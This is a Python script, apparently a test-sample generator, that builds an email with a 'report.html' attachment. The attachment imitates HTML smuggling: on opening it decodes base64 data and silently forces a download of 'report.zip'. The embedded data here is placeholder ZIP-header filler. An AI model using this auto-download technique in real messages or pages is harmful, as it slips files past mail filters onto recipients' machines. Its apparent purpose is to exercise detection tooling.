"""A page that puts a file together when it is opened.
Scenario: HP Wolf Security, 2022."""
from kit import *


def make():
    page = ("<html><body><p>Loading document...</p><script>var d='" + "UEsDBAoAAAAA" * 900 + "';var b=atob(d);var a=new Uint8Array(b.length);"
            "for(var i=0;i<b.length;i++)a[i]=b.charCodeAt(i);var f=new Blob([a]);var l=document.createElement('a');"
            "l.href=URL.createObjectURL(f);l.download='report.zip';l.click();</script></body></html>")
    return (Mail("Report", "office@trade.example.com", date="Tue, 05 Jul 2022 08:00:00 +0000")
            .text("See attached report.\n").attach("report.html", page.encode(), "text/html").bytes())
